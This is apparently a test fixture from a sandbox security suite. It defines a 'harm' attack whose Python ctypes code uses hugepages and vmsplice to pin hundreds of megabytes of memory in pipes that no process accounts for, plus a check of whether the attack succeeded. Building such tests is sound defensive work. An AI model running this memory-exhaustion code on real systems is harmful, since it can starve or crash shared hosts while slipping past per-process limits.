"""Gives pipes one page of each two megabytes and lets go of the rest: the pipes keep all of it, and it belongs to no process"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]
huge, given, pipes = 2 * 2**20, 0, [os.pipe() for _ in range(40)]
for _, writing in pipes:
    for _ in range(8):
        mapped = libc.mmap(None, 2 * huge, 3, 0x22, -1, 0)
        start = (mapped + huge - 1) // huge * huge
        libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(huge), 14)  # MADV_HUGEPAGE
        ctypes.memset(start, 1, 1)
        given += libc.vmsplice(writing, ctypes.byref(Piece(start, 4096)), 1, 0) > 0
        libc.munmap(ctypes.c_void_p(mapped), ctypes.c_size_t(2 * huge))
""",
    q3="reason = 'B' if given * huge > 600_000_000 else 'not done'",
    proof="q3",
    is_bomb=True,
)
